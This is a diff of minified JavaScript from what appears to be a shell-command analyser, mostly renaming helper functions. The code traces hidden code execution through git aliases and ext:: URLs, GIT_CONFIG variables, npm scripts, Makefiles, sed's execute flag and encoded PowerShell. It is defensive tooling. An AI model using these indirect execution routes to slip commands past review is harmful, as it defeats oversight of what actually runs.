-push(r[n])}return s}var vm=require("node:path");var{forms:m$}=S,km={"git-dir":"GIT_DIR","work-tree":"GIT_WORK_TREE"},h$=8;function xm(t){let{options:e,operands:s}=j(t.args,S.getopt.git),r={...t.context.environment},
-n=g$(e,r,t);for(let{name:l,value:c}of e)km[l]&&c&&(r[km[l]]=c);let o=t.scope.copy();for(let{text:l}of W(e,"C"))o.folder=/^[/~]/.test(l)||o.folder===void 0?l:vm.posix.
+push(r[n])}return s}var vm=require("node:path");var{forms:m$}=S,km={"git-dir":"GIT_DIR","work-tree":"GIT_WORK_TREE"},h$=8;function xm(t){let{options:e,operands:s}=W(t.args,S.getopt.git),r={...t.context.environment},
+n=g$(e,r,t);for(let{name:l,value:c}of e)km[l]&&c&&(r[km[l]]=c);let o=t.scope.copy();for(let{text:l}of M(e,"C"))o.folder=/^[/~]/.test(l)||o.folder===void 0?l:vm.posix.
 normalize(`${o.folder}/${l}`);let i=t.with({args:s,scope:o,context:{...t.context,environment:r}});for(let[l,c]of n)m$.git_settings.test(l)&&i.runShell(c.replace(
 /^!/,""));let a=t.context.wrappers.includes("git")?{}:{...t.scope.exported(),...r};for(let l of S.gitVariables)a[l]!==void 0&&i.runShell(a[l].text);return $m(i,
 n,0)}function g$(t,e,{scope:s}){let r=[],n=s.exported(),o=a=>(e[a]??n[a])?.text,i=Number(o("GIT_CONFIG_COUNT")??0)||0;for(let a=0;a<Math.min(i,50);a+=1)r.push([
 o(`GIT_CONFIG_KEY_${a}`)??"",o(`GIT_CONFIG_VALUE_${a}`)??"\uFFFC"]);for(let[,a,l]of(o("GIT_CONFIG_PARAMETERS")??"").matchAll(/'([^'=]+)'?='?([^']*)'/g))r.push([
-a,l]);for(let{text:a}of W(t,"c")){let[,l=a,c="true"]=/^([^=]+)=([\s\S]*)$/.exec(a)??[];r.push([l,c]),e[`GIT_CONFIG_KEY_${i}`]=R(l),e[`GIT_CONFIG_VALUE_${i}`]=R(
-c),i+=1,e.GIT_CONFIG_COUNT=R(String(i))}for(let{text:a}of W(t,"config-env")){let[l="",c=""]=a.split("=");r.push([l,(e[c]??s.get(c)?.words[0])?.text??"\uFFFC"])}
+a,l]);for(let{text:a}of M(t,"c")){let[,l=a,c="true"]=/^([^=]+)=([\s\S]*)$/.exec(a)??[];r.push([l,c]),e[`GIT_CONFIG_KEY_${i}`]=R(l),e[`GIT_CONFIG_VALUE_${i}`]=R(
+c),i+=1,e.GIT_CONFIG_COUNT=R(String(i))}for(let{text:a}of M(t,"config-env")){let[l="",c=""]=a.split("=");r.push([l,(e[c]??s.get(c)?.words[0])?.text??"\uFFFC"])}
 return r}function $m(t,e,s){let[r,...n]=t.args;if(r===void 0)return t.record();let o=e.findLast(([a])=>a.toLowerCase()===`alias.${r.text.toLowerCase()}`)?.[1]??
 t.interpreter.gitAliases.get(r.text);if(o!==void 0&&s<h$){if(o.startsWith("!"))return t.runShell(`${o.slice(1)} "$@"`,[R("git"),...n]);let a=o.trim().split(/\s+/),
-l=xe(a.map(c=>c.replace(/^(["'])(.*)\1$/,"$2")));return $m(t.with({args:[...l,...n]}),e,s+1)}let i=t.record();return b$(r.text,n,t),i}function b$(t,e,s){let{code:r=[],
-...n}=S.gitCode.get(t)??{},{options:o,operands:i}=j(e,{...n,permuted:!0});for(let{text:d}of W(o,...r))s.runShell(d);t==="bisect"&&e[0]?.text==="run"&&s.runCommandWords(
+l=$e(a.map(c=>c.replace(/^(["'])(.*)\1$/,"$2")));return $m(t.with({args:[...l,...n]}),e,s+1)}let i=t.record();return b$(r.text,n,t),i}function b$(t,e,s){let{code:r=[],
+...n}=S.gitCode.get(t)??{},{options:o,operands:i}=W(e,{...n,permuted:!0});for(let{text:d}of M(o,...r))s.runShell(d);t==="bisect"&&e[0]?.text==="run"&&s.runCommandWords(
 e.slice(1));let[,a]=/(?:^| )foreach (?:(?:--recursive|-q|--quiet) )?([\s\S]*)/.exec(ie(e).text)??[];t==="submodule"&&a!==void 0&&s.runShell(a);for(let{text:d}of i)
 d.startsWith("ext::")&&s.runShell(d.slice(5).replaceAll("% ","\\ "));let l=t==="config"?e.findIndex(({text:d})=>/^alias\./i.test(d)):-1,c=e[l+1]?.text;l!==-1&&c!==
 void 0&&s.interpreter.gitAliases.set(e[l].text.slice(6),c)}gt();var y$=16,w$=/^([A-Za-z_]\w*)=([\s\S]*)$/g;function k$(t,e,{options:s,operands:r,code:n,files:o,reads:i}){let{args:a,scope:l,context:c}=t,[d]=r,u=d!==void 0&&(o.
 includes(d)||n.includes(d)||i&&d.text==="-"),p=e==="python"?a.findIndex(_=>n.includes(_)):-1,f=p>=0?a.slice(p+1):r.slice(u?1:0),m=e==="awk",g=m||(e==="perl"||e===
-"ruby")&&G(s,"n","p")?f.slice(0,y$).flatMap(({text:_})=>t.findWritten(_)?.text??[]):[],y=i||c.stdin?.remaining==="\uFFFC"?void 0:c.stdin?.remaining,x=m?[...W(s,
+"ruby")&&K(s,"n","p")?f.slice(0,y$).flatMap(({text:_})=>t.findWritten(_)?.text??[]):[],y=i||c.stdin?.remaining==="\uFFFC"?void 0:c.stdin?.remaining,x=m?[...M(s,
 "v","assign"),...f]:[];return{args:f,environment:{...l.exported(),...c.environment},variables:new Map(x.flatMap(({text:_})=>[..._.matchAll(w$)].map(([,E,$])=>[E,
-$]))),...we({script:u&&o.includes(d)?d.text:void 0,input:g.length>0?g.join(""):y||void 0,separator:m?W(s,"F","field-separator")[0]?.text:void 0,printsLast:e==="\
-javascript"&&G(s,"p","print")||void 0})}}var{interpreters:_m,forms:dr}=S;function ki(t){let e=Sm(t.slice(t.lastIndexOf("/")+1));return/^(ba|da|z|k|a|mk)?sh$/.test(
+$]))),...we({script:u&&o.includes(d)?d.text:void 0,input:g.length>0?g.join(""):y||void 0,separator:m?M(s,"F","field-separator")[0]?.text:void 0,printsLast:e==="\
+javascript"&&K(s,"p","print")||void 0})}}var{interpreters:_m,forms:dr}=S;function ki(t){let e=Sm(t.slice(t.lastIndexOf("/")+1));return/^(ba|da|z|k|a|mk)?sh$/.test(
 e)?"shell":_m.get(e)?.language}var Sm=t=>t.replace(/\.exe$/i,"").replace(/^(python|pypy|perl|ruby|php|lua)[\d.]+$/,"$1").replace(/^pypy$/,"python");function v$(t,e,s){
-let{code:r=[],module:n=[],operands:o}=s,{options:i,operands:a}=j(_$(e,t.args),s),l=W(i,...r),c=W(i,...s.files??[]);o==="code"&&l.length===0&&c.length===0&&l.push(
-...e==="redis-cli"&&a.length>0?[ie(a)]:a.slice(0,1)),o==="database then code"&&l.push(...a.slice(1)),l.length===0&&c.length===0&&c.push(...xe(s.usual??[])),o===
+let{code:r=[],module:n=[],operands:o}=s,{options:i,operands:a}=W(_$(e,t.args),s),l=M(i,...r),c=M(i,...s.files??[]);o==="code"&&l.length===0&&c.length===0&&l.push(
+...e==="redis-cli"&&a.length>0?[ie(a)]:a.slice(0,1)),o==="database then code"&&l.push(...a.slice(1)),l.length===0&&c.length===0&&c.push(...$e(s.usual??[])),o===
 "database then files"&&c.push(...a.filter(({text:m})=>/\.(?:m?js|mongodb)$/.test(m))),i.some(({value:m})=>m?.text.startsWith("data:"))&&t.interpreter.budget.fail(
-"too-much","code in an address is not followed");let[d]=W(i,...n);d?.text==="timeit"&&l.push(...a.filter(({text:m})=>!/^-\w*[nru]?\d*$/.test(m)));let u=o===void 0&&
-l.length===0&&!G(i,...n);u&&a[0]&&a[0].text!=="-"&&c.push(a[0]);let p=W(i,...r.filter(m=>m==="init-command")),f=c.some(({text:m})=>/^(?:-|\/dev\/stdin|\/dev\/fd\/0)$/.
+"too-much","code in an address is not followed");let[d]=M(i,...n);d?.text==="timeit"&&l.push(...a.filter(({text:m})=>!/^-\w*[nru]?\d*$/.test(m)));let u=o===void 0&&
+l.length===0&&!K(i,...n);u&&a[0]&&a[0].text!=="-"&&c.push(a[0]);let p=M(i,...r.filter(m=>m==="init-command")),f=c.some(({text:m})=>/^(?:-|\/dev\/stdin|\/dev\/fd\/0)$/.
 test(m))||l.length===p.length&&c.length===0&&(u||o!==void 0);return{options:i,operands:a,code:l,files:c,reads:f}}function vi(t){let e=Sm(t.program),s=_m.get(e);
-if(!s)return;let{language:r}=s,n=v$(t,e,s),{options:o,operands:i,code:a,files:l,reads:c}=n,[d,u]=i;e==="redis-cli"&&u&&/^eval$/i.test(d.text)&&t.runWords(xe(["l\
-ua","-e",u.text]));let p=(c?t:t.withoutInput()).feedFromSubstitution(a[0]?.text??""),[f]=l.map(({text:O})=>t.findWritten(O)?.from),m=r==="awk"?wi(t):void 0,h={code:ie(
-a).text,from:de(t.context)},g=t.args.filter(O=>!a.includes(O)||O.text.includes("\uFFFC")),y=p.feedFrom(f).with({args:g,...r==="awk"&&{filter:h}}).record(),x=k$(
-t,r,n),_=[...[...a,...x$(t.args,i,s)].map(({text:O})=>O),...l.flatMap(({text:O})=>t.findWritten(O)?.text??[])];if(e==="perl"&&G(o,"i")&&G(o,"n")&&a.length>0&&!a.
-some(({text:O})=>/\bprintf?\b(?! if 0\b)|\b(?:say|\w*write)\b/.test(O))&&t.runWords(xe(["truncate","-s","0"]).concat(i)),G(o,...s.checks??[])&&_.length>0&&o.every(
-({name:O})=>dr.checking_option.test(O))&&!_.some(O=>dr.early_code.test(O)))return y;let T=e.startsWith("ipython")?_.map($$):_,q=Cm(r,T,t.wrap(),c,x),A=q!==""&&(m===
-"\uFFFC"||dr.awk_field.test(h.code));return m!==void 0?A?q:m:r==="sql"?Em(a.map(({text:O})=>O))??y:q===""||G(o,"p")&&e!=="node"?y:q}function Cm(t,e,s,r,n){let o=e.
-map(a=>us(t,a,s,n)),i=r?s.context.stdin?.readRest():void 0;return i!==void 0&&o.push(us(t,i,s.consumeInput(),n)),o.join("")}function x$(t,[e,...s],r){if(!e||r.operands===
-"no code")return[];let n=r.operands===void 0&&/[(;`\n]/.test(e.text)?[e]:[];if(!/^-./.test(t[t.indexOf(e)-1]?.text??""))return n;let{options:o,operands:i}=j(s,r),
-a=W(o,...r.code??[]);return[...n,...a,...r.operands==="code"?i.slice(0,1):[]]}var $$=t=>t.replace(/^\s*!(.+)$/gm,(e,s)=>`os.system(${JSON.stringify(s)})`);function Em(t){
-let e=t.flatMap(s=>[...s.slice(0,1e4).matchAll(dr.generated_statement)].map(([,r])=>`${r}${"\uFFFC"};
+if(!s)return;let{language:r}=s,n=v$(t,e,s),{options:o,operands:i,code:a,files:l,reads:c}=n,[d,u]=i;e==="redis-cli"&&u&&/^eval$/i.test(d.text)&&t.runWords($e(["l\
+ua","-e",u.text]));let p=(c?t:t.withoutInput()).feedFromSubstitution(a[0]?.text??""),[f]=l.map(({text:j})=>t.findWritten(j)?.from),m=r==="awk"?wi(t):void 0,h={code:ie(
+a).text,from:de(t.context)},g=t.args.filter(j=>!a.includes(j)||j.text.includes("\uFFFC")),y=p.feedFrom(f).with({args:g,...r==="awk"&&{filter:h}}).record(),x=k$(
+t,r,n),_=[...[...a,...x$(t.args,i,s)].map(({text:j})=>j),...l.flatMap(({text:j})=>t.findWritten(j)?.text??[])];e==="perl"&&K(o,"i")&&K(o,"n")&&a.length>0&&!a.some(
+({text:j})=>/\bprintf?\b(?! if 0\b)|\b(?:say|\w*write)\b/.test(j))&&t.runWords($e(["truncate","-s","0"]).concat(i));let $=o.map(({name:j,value:xe})=>j==="M"?`M${xe?.
+text}`:j);if(_.length>0&&$.some(j=>s.checks?.includes(j))&&$.every(j=>dr.checking_option.test(j))&&!_.some(j=>dr.early_code.test(j)))return y;let q=e.startsWith(
+"ipython")?_.map($$):_,A=Cm(r,q,t.wrap(),c,x),N=A!==""&&(m==="\uFFFC"||dr.awk_field.test(h.code));return m!==void 0?N?A:m:r==="sql"?Em(a.map(({text:j})=>j))??y:
+A===""||K(o,"p")&&e!=="node"?y:A}function Cm(t,e,s,r,n){let o=e.map(a=>us(t,a,s,n)),i=r?s.context.stdin?.readRest():void 0;return i!==void 0&&o.push(us(t,i,s.consumeInput(),
+n)),o.join("")}function x$(t,[e,...s],r){if(!e||r.operands==="no code")return[];let n=r.operands===void 0&&/[(;`\n]/.test(e.text)?[e]:[];if(!/^-./.test(t[t.indexOf(
+e)-1]?.text??""))return n;let{options:o,operands:i}=W(s,r),a=M(o,...r.code??[]);return[...n,...a,...r.operands==="code"?i.slice(0,1):[]]}var $$=t=>t.replace(/^\s*!(.+)$/gm,
+(e,s)=>`os.system(${JSON.stringify(s)})`);function Em(t){let e=t.flatMap(s=>[...s.slice(0,1e4).matchAll(dr.generated_statement)].map(([,r])=>`${r}${"\uFFFC"};
 `));return e.length>0?e.join(""):void 0}function _$(t,e){let[s,...r]=e;return t==="deno"&&s?.text==="eval"?[R("-e"),...r]:(t==="deno"||t==="bun")&&s?.text==="ru\
 n"?r:e}function us(t,e,s,r=Co){let{scope:n,program:o,interpreter:i}=s,{budget:a,files:l,readCode:c}=i;je(e)&&a.fail("too-much",`${o} runs code that cannot be re\
 ad to its end`);let d="";if(!c)return d;let u=t==="sql"&&/\\gexec\b/.test(e)?Em([e]):void 0;return u&&us("sql",u,s,r),a.descend(()=>{a.spend(e.length>>8);let{invocations:p,
@@ -4330,7 +4330,7 @@ o=[...s.args,...Object.values(s.environment)];return!(t==="sql"&&/^(?:delete|upd
 e:[R(r.text.replace("some","production")),...n]}function A$(t,{scope:e,program:s,args:r,context:n}){let o={program:s,args:r,environment:{...e.exported(),...n.environment}};
 return{...t,args:E$(t,o),wrappers:[...n.wrappers,...t.wrappers],redirects:[...n.redirects,...t.redirects],...we({client:t.client??(t.program==="sql"?o:void 0),input:t.
 input??n.input,needs:t.needs??n.needs,folder:t.folder??(e.folder===void 0?void 0:R(e.folder))})}}function Am(t){let[e,s]=T$(t),r=S.consoles.get(e),[n,...o]=s.slice(
-s.findIndex(({text:d})=>!d.startsWith("-")));if(!r||!n||!r.after.includes(n.text))return;let{options:i,operands:a}=j(o,{...r,permuted:!0}),l=W(i,...r.code??[]);
+s.findIndex(({text:d})=>!d.startsWith("-")));if(!r||!n||!r.after.includes(n.text))return;let{options:i,operands:a}=W(o,{...r,permuted:!0}),l=M(i,...r.code??[]);
 r.operands==="code"&&l.length===0&&l.push(...a.slice(0,1).filter(({text:d})=>d!=="-"));let c=l.map(({text:d})=>d);Cm(r.language,c,t.wrap(e),l.length===0)}function T$({
 program:t,args:e}){let s=ki(t)?e.findIndex(({text:n})=>!n.startsWith("-")):-1;if(s===-1)return[t,e];let{text:r}=e[s];return[r.slice(r.lastIndexOf("/")+1),e.slice(
 s+1)]}gt();var{forms:lc}=S,P$=1e4;function Tm(t){if(t.length>P$)return;let e=[];for(let s=0;s<t.length;s=lc.sed_command.lastIndex){lc.sed_command.lastIndex=s;let r=lc.sed_command.
@@ -4345,12 +4345,12 @@ replace(/\\([\s\S])|[$&]/g,(h,g)=>/\d/.test(g)?`$${g}`:g??(h==="&"?"$&":"$$"));r
 `)?`
 `:"")}function j$(t,e,s){let r=t.replace(/\[:(\w+):\]/g,(o,i)=>S.characterClasses[i]??o);if(/\\[\w<>'\x60]|\[[:.=]/.test(r))return;let n=r.replace(/\\([\s\S])|\[(\^?)(\]?[^\]]*)\]|(?<=^\^?)\*|(?<!^)\^|\$(?!$)|[(){}|+?\]]/g,
 (o,i,a,l)=>{if(l!==void 0)return`[${a}${l.replace(/[\\\]](?!s)/g,"\\$&")}]`;let c=/[(){}|+?]/.test(i??o);return c&&i===void 0===s?i??o:i===void 0||c?`\\${i??o}`:
-o});if(!/[^\\]\)[*+?{]/.test(n))return $s(n,`${e.includes("g")?"g":""}${/i/i.test(e)?"i":""}`)}function Pm(t){let{options:e,operands:s}=j(t.args,S.getopt.sed),r=W(
-e,"e","expression").map(({text:m})=>m),n=W(e,"f","file").map(m=>t.readFiles([m]));r.length===0&&n.length===0&&r.push(s.shift()?.text??"");let o=[...r,...n].join(
+o});if(!/[^\\]\)[*+?{]/.test(n))return $s(n,`${e.includes("g")?"g":""}${/i/i.test(e)?"i":""}`)}function Pm(t){let{options:e,operands:s}=W(t.args,S.getopt.sed),r=M(
+e,"e","expression").map(({text:m})=>m),n=M(e,"f","file").map(m=>t.readFiles([m]));r.length===0&&n.length===0&&r.push(s.shift()?.text??"");let o=[...r,...n].join(
 `
 `),i=Tm(o);t.interpreter.budget.spend(L$*(i?.length??0));let a=(i??[]).flatMap(m=>{let h=Rm(m),g=m.kind==="read"?"read":"write";return h?[{kind:g,path:R(h)}]:[]});
-t.redirect(a).record();let l=G(e,"i","in-place"),[c]=s,d=l&&s.length===1?t.findWritten(c.text)?.text:void 0,u=l?d??"\uFFFC":t.readFiles(s);if(i===void 0)return o.
-includes("\uFFFC")||t.interpreter.budget.fail("unparsable","its sed script cannot be parsed"),Pe(u);let p=G(e,"E","r","regexp-extended"),f=u;for(let m of i)m.kind===
+t.redirect(a).record();let l=K(e,"i","in-place"),[c]=s,d=l&&s.length===1?t.findWritten(c.text)?.text:void 0,u=l?d??"\uFFFC":t.readFiles(s);if(i===void 0)return o.
+includes("\uFFFC")||t.interpreter.budget.fail("unparsable","its sed script cannot be parsed"),Pe(u);let p=K(e,"E","r","regexp-extended"),f=u;for(let m of i)m.kind===
 "replace"&&(f=D$(f,m,p,t.interpreter.budget)),f=W$(m,f,s,t);return d!==void 0&&!f.includes("\uFFFC")&&t.write(c.text,f),l?"":Ut(f,"")}var Rm=t=>"file"in t&&!I$.
 output_device.test(t.file??"")?t.file:void 0;function W$(t,e,s,r){if(t.kind==="other")return Pe(e);if(t.kind==="execute"&&t.command==="")return cc(e,s,r);if(t.kind===
 "execute"&&r.runShell(t.command),t.kind==="execute"||t.kind==="read")return Lt(e);if(t.kind==="replace"&&t.flags.includes("e")){if(!e.includes("\uFFFC"))return cc(
@@ -4370,18 +4370,18 @@ ${e}`;if(s.interpreter.activeScripts.includes(o))return s.context.isConcurrent&&
 \uFFFC",a=s.createChildScope([t,...s.args.slice(1)]);return n&&n!=="shell"?us(n,e,s.wrap()):i=s.with({context:{...s.context,isConcurrent:!1}}).runScript(e,a),s.
 interpreter.activeScripts.pop(),i}function Lm(t){let[e]=t.words,s=e.text.includes("/")?t.interpreter.files.written(e.text,t.scope.folder):void 0;if(s!==void 0)return t.
 feedFrom(s.from).record(),Nm(e,s.text,t.with({args:t.words}))}var Dm={"sh bash dash zsh ksh mksh ash rbash fish csh tcsh yash":t=>{let{args:e}=t,s=S.getopt[t.program===
-"fish"?"fish":"shell"],r=e.map(u=>/^\+[a-zA-Z]/.test(u.text)?{...u,text:`-${u.text.slice(1)}`}:u),{options:n,operands:o}=j(r,s);for(let{name:u,value:p}of n)p&&(u===
-"rcfile"||u==="init-file")&&Im(p,t.with({args:[p]}));let i=W(n,"c","command","C","init-command").map(({text:u})=>u),[a,...l]=i.length>0?[R(i.join(`
-`)),...o]:o;if(G(n,"n","no-execute")&&!G(n,"i")&&!e.some(({text:u})=>u.startsWith("+")))return t.withoutInput().with({args:[]}).record();if(G(n,"c","command")||
+"fish"?"fish":"shell"],r=e.map(u=>/^\+[a-zA-Z]/.test(u.text)?{...u,text:`-${u.text.slice(1)}`}:u),{options:n,operands:o}=W(r,s);for(let{name:u,value:p}of n)p&&(u===
+"rcfile"||u==="init-file")&&Im(p,t.with({args:[p]}));let i=M(n,"c","command","C","init-command").map(({text:u})=>u),[a,...l]=i.length>0?[R(i.join(`
+`)),...o]:o;if(K(n,"n","no-execute")&&!K(n,"i")&&!e.some(({text:u})=>u.startsWith("+")))return t.withoutInput().with({args:[]}).record();if(K(n,"c","command")||
 i.length>0){if(a===void 0)return t.record();let u=l[0]??R(t.program);return t.withoutInput().feedFromSubstitution(a.text).with({args:e.filter(f=>f!==a||!Ie(f))}).
-record(),t.runShell(a.text,[u,...l.slice(1)])}return a===void 0||G(n,"s")||qm.standard_input.test(a.text)?Tn(t,t.createChildScope([R(t.program),...o])):Im(a,t.with(
+record(),t.runShell(a.text,[u,...l.slice(1)])}return a===void 0||K(n,"s")||qm.standard_input.test(a.text)?Tn(t,t.createChildScope([R(t.program),...o])):Im(a,t.with(
 {args:o}))},"source .":t=>{let[e,...s]=t.args;if(e===void 0)return t.record();if(e.text==="/dev/stdin"||e.text==="-")return Tn(t);let r=t.findWritten(e.text);return t.
 feedFrom(r?.from).record(),r===void 0?"\uFFFC":(s.length>0&&(t.scope.arguments=[e,...s]),t.runScript(r.text))}};var{forms:wt}=S,dc=65536,uc=20;function V$(t){let{code:e=[],operands:s,does:r,ignores:n=[],...o}=S.smallLanguages.get(t.program),i=S.dialects.get(o.dialect??""),
 a=t.args.map(g=>e.includes("encoded")&&/^(?:--?|\/)e(?:c|n\w*)?$/i.test(g.text)?R("--encoded"):/^-(?:eval|batch|load|[Cc]ommand)$/.test(g.text)?R(`-${g.text}`):
-g),{options:l,operands:c}=j(a,{...o,permuted:!0}),d=t.record(),u=W(l,"encoded"),p=W(l,...e).flatMap(g=>u.includes(g)?Buffer.from(g.text,"base64").toString("utf1\
+g),{options:l,operands:c}=W(a,{...o,permuted:!0}),d=t.record(),u=M(l,"encoded"),p=M(l,...e).flatMap(g=>u.includes(g)?Buffer.from(g.text,"base64").toString("utf1\
 6le"):g.text==="-"?[]:g.text),f=c.slice(0,uc);p.push(...f.flatMap(({text:g})=>t.interpreter.files.written(g,t.scope.folder)?.text??[]));let m=c.filter(({text:g})=>!wt.
 input_name.test(g));s==="code"&&p.length===u.length&&m.length>0&&p.push(ie(m).text),p.length===0&&(c.length===0||c.some(({text:g})=>wt.input_name.test(g)))&&p.push(
-t.context.stdin?.readRest()??"");let h=g=>{let y=(_,E)=>_.replace(new RegExp(E,"gi"),($,T)=>T??" "),x=n.reduce(y,g);return wt.beside_ignored.test(x)?g:x};for(let g of p.
+t.context.stdin?.readRest()??"");let h=g=>{let y=(_,E)=>E??" ",x=n.reduce((_,E)=>_.replace(new RegExp(E,"gi"),y),g);return wt.beside_ignored.test(x)?g:x};for(let g of p.
 map(U$).map(h).map(r?B$:String)){i&&us("other",z$(g.slice(0,dc),i),t.wrap());let y=i&&!wt.indirect_runs.test(g)?"":g.slice(0,dc);for(let x of new Set(Wm(y,wt.command_texts).
 slice(0,uc)))t.runShell(x);xi(g,r,t,x=>x.split(",").map(_=>Wr(R(_))))}return d}var U$=t=>t.replace(/"(?:[^"\\\n]|\\.){0,500}"/g,e=>e.replace(/\$(?:HOME\b|env:(?:HOME|USERPROFILE)\b|(?:::)?env\(HOME\))/g,
 "~")).replace(wt.home_lookup,'"~"').replace(/\$\("~"\)/g,"~");function H$(t){if(!(wt.pester_block.test(t)&&!wt.beside_pester.test(t))||jm(t,t.indexOf("{")+1)<t.
@@ -4399,69 +4399,69 @@ s.length<Fm;r+=1)s=s.replace(/(?<!\$)\$(?:\(([\w.]+)\)|\{([\w.]+)\})/g,(n,o,i)=>
 replaceAll("$$","$"):"\uFFFC\uFFFB"}function Hm(t){let e=t.findWritten("package.json")?.text;if(e===void 0)return;let[s="",r]=t.args.filter(({text:i})=>!i.startsWith(
 "-")).map(({text:i})=>i),n=/^(?:run|run-script|rum|urn)$/.test(s)?r:G$[s]??s,{scripts:o}=Nl(e)??{};for(let i of[`pre${n}`,n,`post${n}`]){let a=o?.[i];typeof a!=
 "string"||t.interpreter.activeScripts.includes(`script ${i}`)||(t.interpreter.activeScripts.push(`script ${i}`),t.runShell(a),t.interpreter.activeScripts.pop())}}
-var Bm={"make gmake":t=>{t.record();let{options:e}=j(t.args,S.getopt.make),s=G(e,"n","dry-run","just-print","recon")&&!G(e,"eval","E","no-dry-run"),r=W(e,"f","f\
-ile","makefile").map(({text:i})=>i),n=W(e,"eval","E").map(({text:i})=>i);for(let i of r.length>0?r:["Makefile","makefile","GNUmakefile"])n.push((i==="-"?t.context.
+var Bm={"make gmake":t=>{t.record();let{options:e}=W(t.args,S.getopt.make),s=K(e,"n","dry-run","just-print","recon")&&!K(e,"eval","E","no-dry-run"),r=M(e,"f","f\
+ile","makefile").map(({text:i})=>i),n=M(e,"eval","E").map(({text:i})=>i);for(let i of r.length>0?r:["Makefile","makefile","GNUmakefile"])n.push((i==="-"?t.context.
 stdin?.readRest():t.findWritten(i)?.text)??"");let o=t.args.flatMap(({text:i})=>Vm(i,/^([\w.]+)=([\s\S]*)$/g));for(let[i,a]of o)i==="SHELL"&&t.runShell(a);for(let i of n){
 let a=Vm(i,/^(?:export |override )?([\w.]+)[ \t]*(?::{0,3}|[?+])=[ \t]*([^\n]*)$/gm),l=new Map([...Object.entries(S.makeVariables),...a,...o]);for(let[,c]of i.matchAll(
 /\$\(shell\s+((?:[^()]|\([^()]*\))*)\)/g))t.runShell(Um(c,l));for(let c of i.replaceAll(`\\
 `," ").split(`
 `)){let[,d,u]=/^(?:\t|[^\t=#:]+:[^=;]*;)[\t ]*([@+-]*)(.*)/.exec(c)??[],p=s&&!/^-?include\b/m.test(i)&&!d?.includes("+")&&!/\$[({]MAKE\b/.test(c);u!==void 0&&!p&&
-t.runShell(Um(u,l))}}return"\uFFFC"},just:t=>{t.record();let{options:e}=j(t.args,S.getopt.just),s=W(e,"f","justfile").map(({text:n})=>n);s.length===0&&s.push("j\
+t.runShell(Um(u,l))}}return"\uFFFC"},just:t=>{t.record();let{options:e}=W(t.args,S.getopt.just),s=M(e,"f","justfile").map(({text:n})=>n);s.length===0&&s.push("j\
 ustfile","Justfile",".justfile");let r=s.map(n=>t.findWritten(n)?.text??"").join(`
 `);for(let[,n]of r.matchAll(/^[ \t]+[@-]*(\S.*)/gm))t.runShell(n.replace(/\{\{[^}]*\}\}/g,"\uFFFC"));return"\uFFFC"}};var{getopt:ft,forms:at}=S,zm=16384,Y$=t=>{let e=t.replaceAll("+"," "),s=Zs.url(e);return s==="\uFFFC"?e:s},Q$=100,X$=({code:t=[],pattern:e,operands:s,unless:r=[],
-does:n,...o})=>i=>{let a=i.record(),{options:l,operands:c}=j(i.args,{permuted:!0,...o});if(G(l,...r))return a;let d=n?c.flatMap(({text:u})=>i.findWritten(u)?.text??
+does:n,...o})=>i=>{let a=i.record(),{options:l,operands:c}=W(i.args,{permuted:!0,...o});if(K(l,...r))return a;let d=n?c.flatMap(({text:u})=>i.findWritten(u)?.text??
 []):[];xi([...d,n&&i.context.stdin?.readRest()].join(`
-`),n,i);for(let{text:u}of[...W(l,...t),...s==="code"?c:[]]){let f=[...e===void 0?[]:u.matchAll(new RegExp(e,"g"))].map(m=>m.at(-1).replace(/\\(["\\])/g,"$1"));for(let m of e===
+`),n,i);for(let{text:u}of[...M(l,...t),...s==="code"?c:[]]){let f=[...e===void 0?[]:u.matchAll(new RegExp(e,"g"))].map(m=>m.at(-1).replace(/\\(["\\])/g,"$1"));for(let m of e===
 void 0?[u]:f)i.runShell(m)}return a},$i=`new-container
-`;function J$(t,e){let{operands:s}=j(t.args.slice(1),ft.container),r=!t.args.some(({text:n})=>at.container_network.test(n));return Gm(t,e)&&r&&at.database_image.
-test(s[0]?.text??"")}function Z$(t,e){let{interpreter:s,context:r,args:n,program:o}=t,i=j(e,ft.container).operands[0]?.text??"";if(n[0]?.text!=="exec"||n.some(({
+`;function J$(t,e){let{operands:s}=W(t.args.slice(1),ft.container),r=!t.args.some(({text:n})=>at.container_network.test(n));return Gm(t,e)&&r&&at.database_image.
+test(s[0]?.text??"")}function Z$(t,e){let{interpreter:s,context:r,args:n,program:o}=t,i=W(e,ft.container).operands[0]?.text??"";if(n[0]?.text!=="exec"||n.some(({
 text:u})=>at.container_network.test(u)))return;let a=s.invocations.filter(u=>at.container_engine.test(u.program)),l=a.filter(u=>/^(?:run|create)$/.test(u.args[0]?.
 text??""));if(`${i}
 `===$i)return l.length===1?l[0]:void 0;let c=l.filter(u=>{let p=` ${u.args.map(({text:m})=>m).join(" ")} `,f=p.includes(` --name ${i} `)||p.includes(` --name=${i}\
  `);return u.program===o&&f&&u.wrappers.length===r.wrappers.length}),d=a.some(u=>u.args.some(({text:p})=>p==="rename"));return i.includes(S.uniqueMark)&&!d?c.length===
 1?c[0]:void 0:c.find(u=>r.needs?.includes(u))}var e_=(t,e)=>at.plain_volume.test(t)&&t.split(":")[0].includes(S.uniqueMark)&&!e.some(s=>at.bound_volume.test(ie(
 s.args).text));function Gm(t,e){let{program:s,args:r,environment:n}=t,[o,...i]=r[0]?.text==="container"?r.slice(1):r;if(!at.container_engine.test(s)||o?.text!==
-"run"||["DOCKER_HOST","CONTAINER_HOST","DOCKER_CONTEXT"].some(l=>l in n))return!1;let{options:a}=j(i,ft.container);return a.every(({name:l,value:c})=>/^(?:v|volume)$/.
+"run"||["DOCKER_HOST","CONTAINER_HOST","DOCKER_CONTEXT"].some(l=>l in n))return!1;let{options:a}=W(i,ft.container);return a.every(({name:l,value:c})=>/^(?:v|volume)$/.
 test(l)?/:ro(?:,|$)/.test(c?.text??"")||e_(c?.text??"",e):S.programWords.closed_options.has(l))}var Km={"vim vi nvim view ex ed less more":t=>{t.record();let{options:e,
-operands:s}=j(t.args,ft.editor),r=W(e,"c","cmd").map(({text:l})=>l),n=s.flatMap(({text:l})=>l.startsWith("+")?[l.slice(1)]:[]),o=/^(ex|ed|vi|vim|nvim)$/.test(t.
+operands:s}=W(t.args,ft.editor),r=M(e,"c","cmd").map(({text:l})=>l),n=s.flatMap(({text:l})=>l.startsWith("+")?[l.slice(1)]:[]),o=/^(ex|ed|vi|vim|nvim)$/.test(t.
 program)?t.context.stdin?.readRest().split(`
 `)??[]:[],i=[...r,...n,...o],a=s.map(({text:l})=>l.replace(/^\+.*/,""));xi([`args ${a.join(" ")}`,...i].join(`
